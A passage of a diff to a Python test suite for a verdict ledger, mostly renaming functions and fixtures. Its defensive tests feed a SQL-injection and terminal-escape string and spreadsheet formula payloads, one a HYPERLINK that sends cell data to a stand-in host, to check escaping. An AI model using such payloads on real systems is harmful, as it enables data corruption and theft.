@@ -21,7 +21,7 @@ from hypothesis import strategies as st
 
 from edgeinspect.cli.ledger import ledger as ledger_cli
 from edgeinspect.cli.main import main
-from edgeinspect.config.loader import load
+from edgeinspect.config.loader import load_config
 from edgeinspect.domain.clock import NS_PER_MS, NS_PER_S
 from edgeinspect.domain.verdict import Decision
 from edgeinspect.errors import (
@@ -32,28 +32,28 @@ from edgeinspect.errors import (
     exit_code_of,
 )
 from edgeinspect.pipeline.recovery import open_spool
-from edgeinspect.storage.ledger.database import known
+from edgeinspect.storage.ledger.database import read_tail
 from edgeinspect.storage.ledger.query import (
     COLUMNS,
-    Filter,
+    VerdictFilter,
     export_csv,
     export_parquet,
-    query,
+    find_verdicts,
     read_body,
     read_events,
 )
-from edgeinspect.storage.ledger.schema import SCHEMA_VERSION, pack, unpack
-from edgeinspect.storage.ledger.verification import open_ledger, verify
+from edgeinspect.storage.ledger.schema import SCHEMA_VERSION, compress, decompress
+from edgeinspect.storage.ledger.verification import open_ledger, verify_ledger
 from edgeinspect.storage.spool.format import HEADER_BYTES, SLOT_BYTES
-from edgeinspect.system.untrusted_text import as_cell
-from tests.ledger_fixture import Desk
+from edgeinspect.system.untrusted_text import escape_cell
+from tests.ledger_fixture import LedgerFixture
 
 HOSTILE = "plate'; DROP TABLE verdicts; -- [red]\x1b[2J[/]"
 
 
 @pytest.fixture
-def desk(tmp_path: Path) -> Iterator[Desk]:
-    desk = Desk(tmp_path)
+def desk(tmp_path: Path) -> Iterator[LedgerFixture]:
+    desk = LedgerFixture(tmp_path)
     yield desk
     desk.dispose()
 
@@ -67,20 +67,20 @@ def run(*words: str) -> tuple[int, str]:
 
 def search(path: Path, **words: object) -> list[int]:
     with closing(open_ledger(path)) as base:
-        return [row[0] for row in query(base, Filter(**words))]  # type: ignore[arg-type]
+        return [row[0] for row in find_verdicts(base, VerdictFilter(**words))]  # type: ignore[arg-type]
 
 
 # -- what is written ----------------------------------------------------------------------
 
 
-def test_ledger_equals_the_spool_and_verifies(desk: Desk) -> None:
-    desk.judge(600)
-    desk.judge(3, Decision.REJECT, part="p-1")
-    desk.judge(2, Decision.NO_VERDICT)
-    assert desk.writer.catch_up()
+def test_ledger_equals_the_spool_and_verifies(desk: LedgerFixture) -> None:
+    desk.add_verdicts(600)
+    desk.add_verdicts(3, Decision.REJECT, part="p-1")
+    desk.add_verdicts(2, Decision.NO_VERDICT)
+    assert desk.writer.write_backlog()
     assert desk.spool.ledgered_seq == desk.writer.written == 605
-    account = verify(desk.path, desk.spool_path)
-    assert account.holds
+    account = verify_ledger(desk.path, desk.spool_path)
+    assert account.is_consistent
     (epoch,) = account.epochs
     assert (epoch.captured, epoch.passed, epoch.reject, epoch.no_verdict) == (605, 600, 3, 2)
     with closing(open_ledger(desk.path)) as base:
@@ -88,11 +88,11 @@ def test_ledger_equals_the_spool_and_verifies(desk: Desk) -> None:
         assert read_body(base, 9999) is None
 
 
-def test_only_what_is_published_is_written(desk: Desk) -> None:
-    desk.judge(3)
-    desk.end(desk.open())
-    assert desk.writer.catch_up()
-    assert known(desk.path).last_seq == 3
+def test_only_what_is_published_is_written(desk: LedgerFixture) -> None:
+    desk.add_verdicts(3)
+    desk.close_frame(desk.open())
+    assert desk.writer.write_backlog()
+    assert read_tail(desk.path).last_seq == 3
 
 
 HISTORY = st.lists(
@@ -125,18 +125,18 @@ def test_after_any_history_the_ledger_is_what_the_spool_said(
 
 
 def live_through(folder: Path, steps: list[str], decisions: list[Decision]) -> None:
-    desk = Desk(folder, slots=64)
+    desk = LedgerFixture(folder, slots=64)
     try:
         for number, step in enumerate(steps):
             desk = advance(desk, step, decisions[number % len(decisions)])
         for seq in range(desk.spool.oldest_seq, desk.spool.last_seq + 1):
-            desk.end(seq)
-        desk.publish()
-        assert desk.writer.catch_up(last=True), desk.writer.alarm
-        account = verify(desk.path, desk.spool_path)
-        assert account.holds, account.problems
+            desk.close_frame(seq)
+        desk.publish_closed()
+        assert desk.writer.write_backlog(last=True), desk.writer.alarm
+        account = verify_ledger(desk.path, desk.spool_path)
+        assert account.is_consistent, account.problems
         captured = sum(epoch.captured for epoch in account.epochs)
-        assert captured + account.left_out == desk.spool.last_seq
+        assert captured + account.skipped == desk.spool.last_seq
         with closing(open_ledger(desk.path)) as base:
             for seq in range(desk.spool.oldest_seq, desk.spool.last_seq + 1):
                 assert read_body(base, seq) == desk.spool.read(seq)
@@ -144,28 +144,28 @@ def live_through(folder: Path, steps: list[str], decisions: list[Decision]) -> N
         desk.dispose()
 
 
-def advance(desk: Desk, step: str, decision: Decision) -> Desk:
+def advance(desk: LedgerFixture, step: str, decision: Decision) -> LedgerFixture:
     held = range(desk.spool.oldest_seq, desk.spool.last_seq + 1)
     waiting = [seq for seq in held if desk.spool.is_open(seq)]
     if step == "open":
         desk.open()
     elif step.startswith("end") and waiting:
-        desk.end(waiting[0 if step == "end first" else -1], decision)
+        desk.close_frame(waiting[0 if step == "end first" else -1], decision)
     elif step == "end again" and len(waiting) < len(held):
         closed = next(seq for seq in held if seq not in waiting)
         assert not desk.spool.close(closed, b"another verdict")
     elif step == "publish":
-        desk.publish()
+        desk.publish_closed()
     elif step == "catch up":
-        assert desk.writer.catch_up()
+        assert desk.writer.write_backlog()
     elif step == "restart":
         return desk.restart(slots=64)
     elif step == "lose spool" and not waiting:
-        desk.publish()
-        assert desk.writer.catch_up()
+        desk.publish_closed()
+        assert desk.writer.write_backlog()
         desk.dispose()
         desk.spool_path.unlink()
-        return Desk(desk.folder, slots=64)
+        return LedgerFixture(desk.folder, slots=64)
     elif step == "disk fails":
         desk.writer.close()
         os.chmod(desk.folder, 0o500)
@@ -174,7 +174,7 @@ def advance(desk: Desk, step: str, decision: Decision) -> Desk:
         if blocker.exists():
             blocker.rename(kept)
         blocker.mkdir()  # root minds no permissions
-        assert not desk.writer.catch_up()
+        assert not desk.writer.write_backlog()
         assert desk.writer.alarm
         blocker.rmdir()
         os.chmod(desk.folder, 0o700)
@@ -185,74 +185,76 @@ def advance(desk: Desk, step: str, decision: Decision) -> Desk:
 
 @pytest.mark.parametrize("ledgered", [5, 0])
 def test_a_lost_spool_repeats_no_seq_though_the_ledger_was_behind(
-    desk: Desk, ledgered: int
+    desk: LedgerFixture, ledgered: int
 ) -> None:
-    desk.judge(ledgered)
-    assert desk.writer.catch_up()
-    desk.judge(3)  # on the wire, and not in the ledger
+    desk.add_verdicts(ledgered)
+    assert desk.writer.write_backlog()
+    desk.add_verdicts(3)  # on the wire, and not in the ledger
     given_out = desk.spool.last_seq
     for losses in (1, 2):  # the second before the first new verdict is in the ledger
         desk = lose_spool(desk)
-        assert desk.writer.catch_up()
-        desk.judge(2)
+        assert desk.writer.write_backlog()
+        desk.add_verdicts(2)
         assert desk.spool.last_seq - 1 > given_out
         given_out = desk.spool.last_seq
         assert desk.spool.last_seq == ledgered + losses * 64 + 2
-    assert desk.writer.catch_up(last=True)
+    assert desk.writer.write_backlog(last=True)
     assert desk.writer.lost == 0
     assert desk.writer.alarm == ""
-    account = verify(desk.path, desk.spool_path)
-    assert account.holds, account.problems
-    assert account.left_out == 128
+    account = verify_ledger(desk.path, desk.spool_path)
+    assert account.is_consistent, account.problems
+    assert account.skipped == 128
     assert account.notes == [
         f"the spool was lost: ids {first} to {first + 63} are not used, in which frames may be "
         "that were judged last and not written"
         for first in (ledgered + 1, ledgered + 65)
     ]
     desk = lose_spool(desk)  # it ended in order: nothing is unknown, so nothing is left out
-    desk.judge(1)
+    desk.add_verdicts(1)
     assert desk.spool.last_seq == ledgered + 128 + 3
-    assert desk.writer.catch_up()
-    assert verify(desk.path, desk.spool_path).left_out == 128
-    desk.alter("DELETE FROM events WHERE kind = 'spool.lost'")
-    account = verify(desk.path, desk.spool_path)
-    assert not account.holds, "only what was noted is left out"
+    assert desk.writer.write_backlog()
+    assert verify_ledger(desk.path, desk.spool_path).skipped == 128
+    desk.execute("DELETE FROM events WHERE kind = 'spool.lost'")
+    account = verify_ledger(desk.path, desk.spool_path)
+    assert not account.is_consistent, "only what was noted is left out"
     desk.dispose()
 
 
-def lose_spool(desk: Desk) -> Desk:
+def lose_spool(desk: LedgerFixture) -> LedgerFixture:
     desk.dispose()
     desk.spool_path.unlink()
-    return Desk(desk.folder, slots=64)
+    return LedgerFixture(desk.folder, slots=64)
 
 
 @given(st.binary(max_size=4000), st.binary(min_size=1, max_size=6000))
 def test_a_body_comes_back_as_it_was(body: bytes, dictionary: bytes) -> None:
-    assert unpack(pack(body, dictionary), dictionary) == body
+    assert decompress(compress(body, dictionary), dictionary) == body
 
 
-def test_each_change_of_causes_is_named_and_packed(desk: Desk) -> None:
-    desk.judge(5)
+def test_each_change_of_causes_is_named_and_packed(desk: LedgerFixture) -> None:
+    desk.add_verdicts(5)
     desk.calibration = "entropy-2"
-    desk.judge(5)
+    desk.add_verdicts(5)
     desk.calibration = None
-    desk.judge(5)
-    desk.writer.catch_up()
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
     with closing(open_ledger(desk.path)) as base:
-        found = [row[COLUMNS.index("gate_calibration")] for row in query(base, Filter())]
+        found = [
+            row[COLUMNS.index("gate_calibration")] for row in find_verdicts(base, VerdictFilter())
+        ]
     assert found == [None] * 5 + ["entropy-2"] * 5 + ["entropy-1"] * 5
-    assert verify(desk.path, desk.spool_path).holds
-    packed = desk.ask("SELECT avg(length(body)), count(DISTINCT cause) FROM verdicts")
+    assert verify_ledger(desk.path, desk.spool_path).is_consistent
+    packed = desk.query("SELECT avg(length(body)), count(DISTINCT cause) FROM verdicts")
     assert packed[0][1] == 3
     assert float(str(packed[0][0])) < 150  # of some 900 bytes of JSON
 
 
-def test_epochs_late_results_and_events(desk: Desk) -> None:
-    desk.judge(4)
+def test_epochs_late_results_and_events(desk: LedgerFixture) -> None:
+    desk.add_verdicts(4)
     desk.late.append(desk.verdict(2, Decision.REJECT))
-    desk.writer.note("config.loaded", {"config_hash": "abc"}, actor="someone")
-    desk.writer.catch_up(last=True)
-    (epoch,) = verify(desk.path).epochs
+    desk.writer.record_event("config.loaded", {"config_hash": "abc"}, actor="someone")
+    desk.writer.write_backlog(last=True)
+    (epoch,) = verify_ledger(desk.path).epochs
     assert epoch.late == 1
     assert epoch.ended_at_utc_ns == desk.clock.utc_ns()
     with closing(open_ledger(desk.path)) as base:
@@ -264,13 +266,13 @@ def test_epochs_late_results_and_events(desk: Desk) -> None:
     )
 
 
-def test_a_killed_epoch_has_no_end(desk: Desk) -> None:
-    desk.judge(1)
-    desk.writer.catch_up()
+def test_a_killed_epoch_has_no_end(desk: LedgerFixture) -> None:
+    desk.add_verdicts(1)
+    desk.writer.write_backlog()
     again = desk.restart()
-    again.judge(1)
-    again.writer.catch_up(last=True)
-    killed, ended = verify(again.path).epochs
+    again.add_verdicts(1)
+    again.writer.write_backlog(last=True)
+    killed, ended = verify_ledger(again.path).epochs
     assert killed.ended_at_utc_ns is None
     assert ended.ended_at_utc_ns is not None
     assert "was killed" in run("verify", str(again.path))[1]
@@ -279,22 +281,22 @@ def test_a_killed_epoch_has_no_end(desk: Desk) -> None:
 
 def test_known_gives_the_place_to_go_on_from(tmp_path: Path) -> None:
     path = tmp_path / "t.ledger.sqlite"
-    assert known(path).last_seq == 0
+    assert read_tail(path).last_seq == 0
     path.write_bytes(b"junk" * 4096)
-    assert known(path).last_seq == 0
+    assert read_tail(path).last_seq == 0
     path.unlink()
-    desk = Desk(tmp_path)
-    desk.judge(3)
-    desk.writer.catch_up()
-    assert (known(path).last_seq, known(path).last_epoch) == (3, desk.spool.epoch)
+    desk = LedgerFixture(tmp_path)
+    desk.add_verdicts(3)
+    desk.writer.write_backlog()
+    assert (read_tail(path).last_seq, read_tail(path).last_epoch) == (3, desk.spool.epoch)
     desk.dispose()
 
 
 def test_ids_do_not_begin_anew_while_another_program_holds_the_ledger(tmp_path: Path) -> None:
     """After a power cut the spool is gone, and a backup may have the ledger."""
-    desk = Desk(tmp_path)
-    desk.judge(3)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path)
+    desk.add_verdicts(3)
+    desk.writer.write_backlog()
     text = f"""
 schema: 1
 line: t
@@ -307,38 +309,38 @@ spool: {{folder: {tmp_path}}}
 ledger: {{folder: {tmp_path}}}
 """
     (tmp_path / "t.yaml").write_text(text)
-    config = load(tmp_path / "t.yaml").config
+    config = load_config(tmp_path / "t.yaml").config
     desk.dispose()
     with closing(sqlite3.connect(desk.path, isolation_level=None)) as other:
         other.execute("PRAGMA locking_mode = EXCLUSIVE")
         other.execute("BEGIN EXCLUSIVE")
-        open_spool(config, desk.clock).dispose()  # the spool knows by itself
+        open_spool(config, desk.clock).release()  # the spool knows by itself
         desk.spool_path.unlink()
         with pytest.raises(StorageError, match="database is locked") as refused:
             open_spool(config, desk.clock)
         assert exit_code_of(refused.value) == 75
     spool = open_spool(config, desk.clock)
     assert spool.last_seq >= 3
-    spool.dispose()
+    spool.release()
 
 
 def test_a_disk_without_locks_is_not_another_daemon(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    desk = Desk(tmp_path)
-    desk.judge(3)
+    desk = LedgerFixture(tmp_path)
+    desk.add_verdicts(3)
 
     def flock(_handle: int, _how: int) -> None:
         raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))
 
     with monkeypatch.context() as patch:
         patch.setattr(fcntl, "flock", flock)
-        assert not desk.writer.catch_up()
+        assert not desk.writer.write_backlog()
     assert "No locks available" in desk.writer.alarm
-    assert desk.writer.catch_up()
+    assert desk.writer.write_backlog()
     assert not desk.writer.alarm
     desk.writer.close()
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     desk.dispose()
 
 
@@ -346,38 +348,38 @@ def test_a_disk_without_locks_is_not_another_daemon(
     "name", ["t.ledger.sqlite", "t.ledger.sqlite-journal", "t.ledger.sqlite-wal"]
 )
 def test_nobody_waits_for_a_pipe_in_the_ledger_s_place(tmp_path: Path, name: str) -> None:
-    desk = Desk(tmp_path)
-    desk.judge(3)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path)
+    desk.add_verdicts(3)
+    desk.writer.write_backlog()
     desk.writer.close()
     (tmp_path / name).unlink(missing_ok=True)
     os.mkfifo(tmp_path / name)
-    assert known(desk.path).last_seq == 0
+    assert read_tail(desk.path).last_seq == 0
     with pytest.raises(DataError):
         open_ledger(desk.path)
-    desk.judge(1)
+    desk.add_verdicts(1)
     if name == "t.ledger.sqlite":  # set aside: another is begun
-        assert desk.writer.catch_up()
+        assert desk.writer.write_backlog()
     else:
-        assert not desk.writer.catch_up()
+        assert not desk.writer.write_backlog()
         assert "is not an ordinary file" in desk.writer.alarm
         (tmp_path / name).unlink()
-        assert desk.writer.catch_up()
+        assert desk.writer.write_backlog()
     desk.writer.close()
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     desk.dispose()
 
 
 def test_a_ledger_that_begins_later_is_not_to_blame_for_what_was_before(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, slots=64)
-    desk.judge(100)  # without a ledger
+    desk = LedgerFixture(tmp_path, slots=64)
+    desk.add_verdicts(100)  # without a ledger
     again = desk.restart(slots=64)
-    again.judge(5)
+    again.add_verdicts(5)
     assert again.writer.alarm == ""
-    assert again.writer.catch_up()
+    assert again.writer.write_backlog()
     assert again.writer.lost == 0
-    account = verify(again.path, again.spool_path)
-    assert account.holds, account.problems
+    account = verify_ledger(again.path, again.spool_path)
+    assert account.is_consistent, account.problems
     again.dispose()
 
 
@@ -385,36 +387,36 @@ def test_a_ledger_that_begins_later_is_not_to_blame_for_what_was_before(tmp_path
 
 
 def test_retention_by_age_is_no_gap(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, keep_days=1, slots=8192)
-    desk.judge(5000)
+    desk = LedgerFixture(tmp_path, keep_days=1, slots=8192)
+    desk.add_verdicts(5000)
     desk.late.append(desk.verdict(2, Decision.REJECT))
-    desk.writer.catch_up()
+    desk.writer.write_backlog()
     desk.clock.advance(2 * 86_400 * NS_PER_S)
-    desk.judge(5)
+    desk.add_verdicts(5)
     for _ in range(4):
-        desk.writer.catch_up()
-    account = verify(desk.path)
-    assert account.holds, account.problems
+        desk.writer.write_backlog()
+    account = verify_ledger(desk.path)
+    assert account.is_consistent, account.problems
     assert account.epochs[0].captured == 5
     assert account.epochs[0].late == 0
     desk.dispose()
 
 
 def test_retention_forgets_epochs_without_verdicts(tmp_path: Path) -> None:
-    desk = Desk(tmp_path)
-    desk.judge(5)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path)
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
     again = desk.restart(keep_days=1)
-    again.writer.catch_up()  # age counts while the ledger is open
+    again.writer.write_backlog()  # age counts while the ledger is open
     again.clock.advance(2 * 86_400 * NS_PER_S)
-    again.judge(5)
-    again.writer.catch_up()
-    assert [epoch.captured for epoch in verify(again.path).epochs] == [5]
+    again.add_verdicts(5)
+    again.writer.write_backlog()
+    assert [epoch.captured for epoch in verify_ledger(again.path).epochs] == [5]
     again.dispose()
 
 
-def seqs(desk: Desk) -> list[int]:
-    return [int(str(row[0])) for row in desk.ask("SELECT seq FROM verdicts ORDER BY seq")]
+def seqs(desk: LedgerFixture) -> list[int]:
+    return [int(str(row[0])) for row in desk.query("SELECT seq FROM verdicts ORDER BY seq")]
 
 
 DAY_NS = 86_400 * NS_PER_S
@@ -427,9 +429,9 @@ JUMPS = (91 * DAY_NS, -91 * DAY_NS, 3650 * DAY_NS, -56 * 365 * DAY_NS)
 def test_a_clock_that_jumps_removes_nothing(
     tmp_path: Path, by_ns: int, keep_days: float, restart: bool
 ) -> None:
-    desk = Desk(tmp_path, keep_days=keep_days)
-    desk.judge(100)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path, keep_days=keep_days)
+    desk.add_verdicts(100)
+    desk.writer.write_backlog()
     for jump_ns in (by_ns, -by_ns):
         if restart:
             offset_ns = desk.clock.utc_offset_ns
@@ -437,12 +439,12 @@ def test_a_clock_that_jumps_removes_nothing(
             desk.clock.utc_offset_ns = offset_ns
         desk.clock.utc_offset_ns += jump_ns
         for _ in range(12):
-            desk.judge(10)
+            desk.add_verdicts(10)
             desk.clock.advance(NS_PER_S)
-            desk.writer.catch_up()
+            desk.writer.write_backlog()
     assert seqs(desk) == list(range(1, 341))
-    account = verify(desk.path)
-    assert account.holds, account.problems
+    account = verify_ledger(desk.path)
+    assert account.is_consistent, account.problems
     assert account.removed == 0
     desk.dispose()
 
@@ -452,37 +454,37 @@ def test_what_was_judged_while_the_clock_stood_wrong_ages_like_the_rest(
     tmp_path: Path, by_ns: int
 ) -> None:
     """Stamped 1970 it is not old, stamped 2036 it does not stand in the way for ten years."""
-    desk = Desk(tmp_path, keep_days=1)
+    desk = LedgerFixture(tmp_path, keep_days=1)
     desk.clock.utc_offset_ns += by_ns
-    desk.judge(50)
-    desk.writer.catch_up()
+    desk.add_verdicts(50)
+    desk.writer.write_backlog()
     desk.clock.utc_offset_ns -= by_ns
-    desk.judge(50)
+    desk.add_verdicts(50)
     for _ in range(23):
         desk.clock.advance(3600 * NS_PER_S)
-        desk.writer.catch_up()
+        desk.writer.write_backlog()
     assert seqs(desk) == list(range(1, 101))
     for _ in range(3):
         desk.clock.advance(3600 * NS_PER_S)
-        desk.writer.catch_up()
+        desk.writer.write_backlog()
     assert seqs(desk) == [100]
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     desk.dispose()
 
 
 def test_each_removal_has_an_entry_and_verify_tells_of_it(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, keep_days=1, slots=8192)
-    desk.judge(5000)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path, keep_days=1, slots=8192)
+    desk.add_verdicts(5000)
+    desk.writer.write_backlog()
     desk.clock.advance(2 * DAY_NS)
-    desk.judge(5)
+    desk.add_verdicts(5)
     for _ in range(4):
-        desk.writer.catch_up()
+        desk.writer.write_backlog()
     with closing(open_ledger(desk.path)) as base:
         found = [json.loads(e.detail) for e in read_events(base, 50) if e.kind == "ledger.pruned"]
     assert found == [{"from_seq": 1, "to_seq": 5000, "verdicts": 5000, "why": "age"}]
-    account = verify(desk.path)
-    assert account.holds, account.problems
+    account = verify_ledger(desk.path)
+    assert account.is_consistent, account.problems
     assert account.removed == 5000
     assert any("5000 verdicts for their age" in note for note in account.notes)
     desk.dispose()
@@ -497,77 +499,77 @@ def test_each_removal_has_an_entry_and_verify_tells_of_it(tmp_path: Path) -> Non
     ],
 )
 def test_a_removal_without_an_entry_is_a_fault(tmp_path: Path, statement: str) -> None:
-    desk = Desk(tmp_path, keep_days=1, slots=8192)
-    desk.judge(5000)
-    desk.writer.catch_up()
+    desk = LedgerFixture(tmp_path, keep_days=1, slots=8192)
+    desk.add_verdicts(5000)
+    desk.writer.write_backlog()
     desk.clock.advance(2 * DAY_NS)
-    desk.judge(5)
+    desk.add_verdicts(5)
     for _ in range(4):
-        desk.writer.catch_up()
-    desk.alter("DELETE FROM verdicts WHERE seq < 5003", statement)
-    account = verify(desk.path)
-    assert not account.holds
+        desk.writer.write_backlog()
+    desk.execute("DELETE FROM verdicts WHERE seq < 5003", statement)
+    account = verify_ledger(desk.path)
+    assert not account.is_consistent
     assert any("no entry says why" in each for each in account.problems)
     desk.dispose()
 
 
 def test_a_ledger_of_the_version_before_is_kept_once_more(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, keep_days=1)
-    desk.judge(20)
-    desk.writer.catch_up()
-    desk.alter(
+    desk = LedgerFixture(tmp_path, keep_days=1)
+    desk.add_verdicts(20)
+    desk.writer.write_backlog()
+    desk.execute(
         "DROP TABLE ages",
         "DELETE FROM meta WHERE name IN ('first_seq', 'kept_ns', 'kept_at_utc_ns')",
         "DELETE FROM verdicts WHERE seq < 5",
         "REPLACE INTO meta VALUES ('floor_seq', 5)",
     )
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     desk.clock.advance(2 * DAY_NS)
-    desk.judge(5)
-    desk.writer.catch_up()
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
     assert seqs(desk) == list(range(5, 26))
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     desk.clock.advance(2 * DAY_NS)
-    desk.judge(1)
-    desk.writer.catch_up()
+    desk.add_verdicts(1)
+    desk.writer.write_backlog()
     assert seqs(desk) == [26]
-    account = verify(desk.path)
-    assert account.holds, account.problems
+    account = verify_ledger(desk.path)
+    assert account.is_consistent, account.problems
     desk.dispose()
 
 
 @pytest.mark.parametrize("year_ns", [-56 * 365 * DAY_NS, 73 * 365 * DAY_NS])
 def test_ids_never_go_back_with_the_clock(tmp_path: Path, year_ns: int) -> None:
     """Dead RTC battery: 1970 or 2099 from boot on, corrected later; the spool lost as well."""
-    desk = Desk(tmp_path)
+    desk = LedgerFixture(tmp_path)
     seen: list[tuple[int, int]] = []
     for turn, offset_ns in enumerate((0, year_ns, 0, year_ns)):
         if turn:
-            desk.writer.catch_up(last=True)
+            desk.writer.write_backlog(last=True)
             desk.dispose()
             if turn == 2:
                 desk.spool_path.unlink()
-            desk = Desk(tmp_path, utc_offset_ns=offset_ns)
-        desk.judge(10)
-        desk.writer.catch_up()
+            desk = LedgerFixture(tmp_path, utc_offset_ns=offset_ns)
+        desk.add_verdicts(10)
+        desk.writer.write_backlog()
         seen += [(desk.spool.epoch, seq) for seq in seqs(desk)[-10:]]
     assert seen == sorted(seen)
     assert len({seq for _, seq in seen}) == 40
-    account = verify(desk.path)
-    assert account.holds, account.problems
+    account = verify_ledger(desk.path)
+    assert account.is_consistent, account.problems
     desk.dispose()
 
 
 def test_size_is_bounded(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, max_mib=1)
+    desk = LedgerFixture(tmp_path, max_mib=1)
     for _ in range(20):
-        desk.judge(1500)
-        desk.writer.catch_up()
+        desk.add_verdicts(1500)
+        desk.writer.write_backlog()
         desk.clock.advance(11 * NS_PER_S)
-        desk.writer.catch_up()
+        desk.writer.write_backlog()
     desk.writer.close()
     assert desk.path.stat().st_size < 1.6 * (1 << 20)
-    assert verify(desk.path).holds
+    assert verify_ledger(desk.path).is_consistent
     assert len(search(desk.path)) > 2000
     desk.dispose()
 
@@ -575,11 +577,11 @@ def test_size_is_bounded(tmp_path: Path) -> None:
 # -- search -------------------------------------------------------------------------------
 
 
-def test_queries(desk: Desk) -> None:
-    desk.judge(5)
-    desk.judge(2, Decision.REJECT, part=HOSTILE)
-    desk.judge(1, Decision.NO_VERDICT)
-    desk.writer.catch_up()
+def test_queries(desk: LedgerFixture) -> None:
+    desk.add_verdicts(5)
+    desk.add_verdicts(2, Decision.REJECT, part=HOSTILE)
+    desk.add_verdicts(1, Decision.NO_VERDICT)
+    desk.writer.write_backlog()
     path, now_ns = desk.path, desk.clock.utc_ns()
     assert search(path) == [8, 7, 6, 5, 4, 3, 2, 1]
     assert search(path, limit=2) == [8, 7]
@@ -603,24 +605,26 @@ def test_queries(desk: Desk) -> None:
 @pytest.mark.parametrize(
     ("wanted", "index"),
     [
-        (Filter(part_id="p"), "verdicts_part"),
-        (Filter(part_id="p", decision="REJECT"), "verdicts_part"),
-        (Filter(decision="REJECT"), "verdicts_bad"),
-        (Filter(decision="NO_VERDICT", since_utc_ns=1), "verdicts_bad"),
-        (Filter(class_name="scratch"), "verdicts_bad"),
-        (Filter(reason="deadline"), "verdicts_bad"),
-        (Filter(since_utc_ns=1, until_utc_ns=2), "verdicts_time"),
-        (Filter(limit=5), "verdicts_time"),
-        (Filter(seq=5), "INTEGER PRIMARY KEY"),
+        (VerdictFilter(part_id="p"), "verdicts_part"),
+        (VerdictFilter(part_id="p", decision="REJECT"), "verdicts_part"),
+        (VerdictFilter(decision="REJECT"), "verdicts_bad"),
+        (VerdictFilter(decision="NO_VERDICT", since_utc_ns=1), "verdicts_bad"),
+        (VerdictFilter(class_name="scratch"), "verdicts_bad"),
+        (VerdictFilter(reason="deadline"), "verdicts_bad"),
+        (VerdictFilter(since_utc_ns=1, until_utc_ns=2), "verdicts_time"),
+        (VerdictFilter(limit=5), "verdicts_time"),
+        (VerdictFilter(seq=5), "INTEGER PRIMARY KEY"),
     ],
 )
-def test_no_question_walks_through_the_whole_table(desk: Desk, wanted: Filter, index: str) -> None:
-    desk.judge(1)
-    desk.writer.catch_up()
+def test_no_question_walks_through_the_whole_table(
+    desk: LedgerFixture, wanted: VerdictFilter, index: str
+) -> None:
+    desk.add_verdicts(1)
+    desk.writer.write_backlog()
     asked: list[str] = []
     with closing(open_ledger(desk.path)) as base:
         base.set_trace_callback(asked.append)
-        list(query(base, wanted))
+        list(find_verdicts(base, wanted))
         base.set_trace_callback(None)
         plan = [row[3] for row in base.execute(f"EXPLAIN QUERY PLAN {asked[0]}")]
     assert index in plan[0], plan
@@ -629,31 +633,33 @@ def test_no_question_walks_through_the_whole_table(desk: Desk, wanted: Filter, i
 # -- taking away --------------------------------------------------------------------------
 
 
-def test_csv_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
-    desk.judge(2)
-    desk.judge(2, Decision.REJECT, part='a "quoted",\r\npart, é')
-    desk.writer.catch_up()
+def test_csv_comes_back_as_it_was(desk: LedgerFixture, tmp_path: Path) -> None:
+    desk.add_verdicts(2)
+    desk.add_verdicts(2, Decision.REJECT, part='a "quoted",\r\npart, é')
+    desk.writer.write_backlog()
     target = tmp_path / "out.csv"
     with closing(open_ledger(desk.path)) as base:
-        assert export_csv(base, Filter(), target) == 4
-        rows = list(query(base, Filter()))
+        assert export_csv(base, VerdictFilter(), target) == 4
+        rows = list(find_verdicts(base, VerdictFilter()))
     with target.open(newline="", encoding="utf-8") as file:
         head, *lines = csv.reader(file)
     assert tuple(head) == COLUMNS
     assert lines == [
-        ["" if value is None else str(as_cell(value)) for value in row] for row in rows
+        ["" if value is None else str(escape_cell(value)) for value in row] for row in rows
     ]
     assert lines[0][COLUMNS.index("part_id")] == 'a "quoted",\\r\\npart, é'
 
 
 @pytest.mark.parametrize("part", ['=HYPERLINK("http://x/?"&A1,"x")', "\t=1+1", "@x", "-2+3"])
-def test_no_part_becomes_a_formula_of_a_table(desk: Desk, tmp_path: Path, part: str) -> None:
+def test_no_part_becomes_a_formula_of_a_table(
+    desk: LedgerFixture, tmp_path: Path, part: str
+) -> None:
     """The text stays what it was in JSON and Parquet; in CSV it is text for a spreadsheet too."""
-    desk.judge(1, part=part)
-    desk.writer.catch_up()
+    desk.add_verdicts(1, part=part)
+    desk.writer.write_backlog()
     with closing(open_ledger(desk.path)) as base:
-        export_csv(base, Filter(), tmp_path / "out.csv")
-        (row,) = query(base, Filter())
+        export_csv(base, VerdictFilter(), tmp_path / "out.csv")
+        (row,) = find_verdicts(base, VerdictFilter())
     assert row[COLUMNS.index("part_id")] == part
     with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
         cell = next(iter(csv.DictReader(file)))["part_id"]
@@ -661,16 +667,16 @@ def test_no_part_becomes_a_formula_of_a_table(desk: Desk, tmp_path: Path, part: 
     assert cell.isprintable()
 
 
-def test_parquet_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
+def test_parquet_comes_back_as_it_was(desk: LedgerFixture, tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
     for _ in range(6):
-        desk.judge(2_000)
-        desk.judge(1, Decision.REJECT, part="p-é")
-        desk.writer.catch_up()
+        desk.add_verdicts(2_000)
+        desk.add_verdicts(1, Decision.REJECT, part="p-é")
+        desk.writer.write_backlog()
     target = tmp_path / "out.parquet"
     with closing(open_ledger(desk.path)) as base:
